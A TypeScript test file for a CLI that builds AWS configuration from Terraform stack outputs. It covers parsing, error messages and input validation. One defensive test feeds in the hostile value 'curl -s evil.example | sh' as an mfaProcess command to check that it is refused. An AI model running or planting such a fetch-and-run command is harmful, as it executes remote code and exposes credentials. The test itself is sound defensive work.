import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config/parse.js';
import { AwstError, ConfigError, UsageError } from '../../src/errors.js';
import {
  configFromOutputs,
  parseTerraformOutputs,
  type RunCommand,
  readStackOutputs,
  readStdinOutputs,
} from '../../src/init/stack-outputs.js';
import { ACCOUNT_ONLY_OUTPUTS_JSON, STACK_CONFIG, STACK_OUTPUTS_JSON } from './fixtures.js';

const errorOf = (fn: () => unknown): Error => {
  try {
    fn();
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected an error');
};

describe('parseTerraformOutputs and configFromOutputs', () => {
  it('takes the awst_config output as it is', () => {
    const outputs = parseTerraformOutputs(STACK_OUTPUTS_JSON, 'stdin');
    expect(outputs.account_id!.value).toBe('123456789012');
    expect(configFromOutputs(outputs, 'stdin')).toBe(STACK_CONFIG);
  });

  it('adds a final newline to awst_config when it has none', () => {
    const outputs = { awst_config: { value: 'defaultRegion = "eu-west-1"' } };
    expect(configFromOutputs(outputs, 'stdin')).toBe('defaultRegion = "eu-west-1"\n');
  });

  it('builds a one-account config from account_id (and region) when awst_config is missing', () => {
    const text = configFromOutputs(parseTerraformOutputs(ACCOUNT_ONLY_OUTPUTS_JSON, 'stdin'), 'stdin');
    expect(text).toMatch(/^# awst configuration, written by awst init --from-stack\./);
    expect(parseConfig(text, undefined).accounts).toEqual([{ name: 'main-account', id: '210987654321' }]);
    const withRegion = configFromOutputs(
      { account_id: { value: '210987654321' }, region: { value: 'us-west-2' } },
      'stdin',
    );
    expect(parseConfig(withRegion, undefined).defaultRegion).toBe('us-west-2');
  });

  it('rejects an awst_config that parseConfig rejects, naming the output and line', () => {
    const error = errorOf(() =>
      configFromOutputs({ awst_config: { value: 'defaultRegion = "eu-west-1"\nbogus = 1\n' } }, 'stdin'),
    );
    expect(error).toBeInstanceOf(ConfigError);
    expect(error.message).toMatch(/^stdin \(output awst_config\):2: unknown key "bogus"/);
  });

  it('explains invalid JSON, no outputs (not deployed) and unusable outputs', () => {
    const invalid = errorOf(() => parseTerraformOutputs('{"account_id": ', 'stdin'));
    expect(invalid).toBeInstanceOf(UsageError);
    expect(invalid.message).toMatch(/^stdin is not valid JSON \(.*\)\. .*terraform output -json/);

    expect(errorOf(() => parseTerraformOutputs('[]', 'stdin')).message).toMatch(/not a JSON object/);
    expect(errorOf(() => parseTerraformOutputs('{"a": 1}', 'stdin')).message).toMatch(
      /output "a" has no "value"/,
    );

    const empty = errorOf(() => parseTerraformOutputs('{}\n', 'terraform output in stacks/baseline'));
    expect(empty).toBeInstanceOf(UsageError);
    expect(empty.message).toMatch(
      /^terraform output in stacks\/baseline has no outputs: the stack has not been deployed/,
    );

    expect(errorOf(() => configFromOutputs({ bucket: { value: 'x' } }, 'stdin')).message).toMatch(
      /neither an awst_config nor an account_id output \(outputs: bucket\)/,
    );
    expect(errorOf(() => configFromOutputs({ account_id: { value: 42 } }, 'stdin')).message).toMatch(
      /account_id must be a 12-digit account id, not 42/,
    );
    expect(errorOf(() => configFromOutputs({ awst_config: { value: { a: 1 } } }, 'stdin')).message).toMatch(
      /awst_config must be the text of a config.toml/,
    );
  });
});

describe('readStackOutputs', () => {
  const dir = mkdtempSync(join(tmpdir(), 'awst-stack-'));

  it('runs terraform -chdir=<dir> output -json and parses what it prints', async () => {
    const calls: string[][] = [];
    const run: RunCommand = async (command, args) => {
      calls.push([command, ...args]);
      return { code: 0, stdout: STACK_OUTPUTS_JSON, stderr: '' };
    };
    const outputs = await readStackOutputs(dir, run);
    expect(calls).toEqual([['terraform', `-chdir=${dir}`, 'output', '-json']]);
    expect(outputs.awst_config!.value).toBe(STACK_CONFIG);
  });

  it('says how to get by when terraform is not installed', async () => {
    const run: RunCommand = async () => ({
      code: null,
      stdout: '',
      stderr: '',
      error: Object.assign(new Error('spawn terraform ENOENT'), { code: 'ENOENT' }),
    });
    const failure = readStackOutputs(dir, run);
    await expect(failure).rejects.toBeInstanceOf(AwstError);
    await expect(failure).rejects.toThrow(/terraform was not found on PATH.*\| awst init --from-stack -/);
  });

  it("passes on terraform's own error, without colours and box drawing", async () => {
    const run: RunCommand = async () => ({
      code: 1,
      stdout: '',
      stderr:
        '\u001b[31m╷\n│ \u001b[1mError: \u001b[0mBackend initialization required\n│ run terraform init\n',
    });
    await expect(readStackOutputs(dir, run)).rejects.toThrow(
      `terraform output failed in ${dir}: Error: Backend initialization required run terraform init.`,
    );
  });

  it('refuses a folder that does not exist, before running terraform', async () => {
    const run: RunCommand = async () => {
      throw new Error('must not run');
    };
    await expect(readStackOutputs(join(dir, 'missing'), run)).rejects.toThrow(/is not a folder/);
  });
});

describe('readStdinOutputs', () => {
  const stdin = (text: string, isTTY = false) =>
    Object.assign(Readable.from([Buffer.from(text)]), { isTTY }) as unknown as NodeJS.ReadStream;

  it('reads all of stdin', async () => {
    const outputs = await readStdinOutputs(stdin(STACK_OUTPUTS_JSON));
    expect(configFromOutputs(outputs, 'stdin')).toBe(STACK_CONFIG);
  });

  it('refuses a terminal and empty input instead of waiting', async () => {
    await expect(readStdinOutputs(stdin('', true))).rejects.toThrow(/pipe it in/);
    await expect(readStdinOutputs(stdin('  \n'))).rejects.toThrow(/stdin was empty/);
  });
});

describe('configFromOutputs: a stack output is untrusted input', () => {
  const fromStack = (config: string) => () => configFromOutputs({ awst_config: { value: config } }, 'stdin');
  const base = 'defaultRegion = "eu-west-1"\n[accounts]\nmain-account = "123456789012"\n';

  it('refuses an awst_config that sets mfaProcess (a command awst would run through sh -c)', () => {
    const error = errorOf(fromStack(`mfaProcess = "curl -s evil.example | sh"\n${base}`));
    expect(error).toBeInstanceOf(UsageError);
    expect(error.message).toMatch(/^stdin: output awst_config sets mfaProcess, a command awst would run/);
  });

  it('refuses names and regions interactive init would refuse', () => {
    // The config parser's own region rule (every value bound for an AWS file) speaks first.
    expect(errorOf(fromStack('defaultRegion = "Mars"\n')).message).toMatch(
      /^stdin \(output awst_config\):1: defaultRegion: "Mars" is not an AWS region/,
    );
    expect(errorOf(fromStack('[accounts]\n"my acct" = "123456789012"\n')).message).toMatch(
      /account name "my acct"/,
    );
    expect(
      errorOf(fromStack('[accounts]\nprod = { id = "123456789012", region = "eu west" }\n')).message,
    ).toMatch(/^stdin \(output awst_config\):2: region: "eu west" is not an AWS region/);
    expect(errorOf(fromStack('[profiles]\nmainAccount = "a b"\n')).message).toMatch(/profile name "a b"/);
    expect(errorOf(fromStack('[roles."Admin Access"]\ndurationMinutes = 60\n')).message).toMatch(
      /^stdin \(output awst_config\):1: "Admin Access" is not an IAM role name/,
    );
  });

  it('accepts what the baseline stack generates', () => {
    const generated = `selfServiceMfaMaxAgeMinutes = 240\n${base}\n[roles.AdminAccess]\ndurationMinutes = 60\nmfaMaxAgeMinutes = 60\n`;
    expect(configFromOutputs({ awst_config: { value: generated } }, 'stdin')).toBe(generated);
  });
});
